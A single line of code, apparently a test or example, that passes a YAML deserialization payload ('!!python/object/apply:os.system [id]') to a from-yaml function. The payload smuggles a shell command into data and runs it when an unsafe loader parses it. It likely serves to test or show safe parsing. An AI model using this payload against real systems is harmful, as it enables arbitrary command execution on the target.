result = from-yaml("!!python/object/apply:os.system [id]")
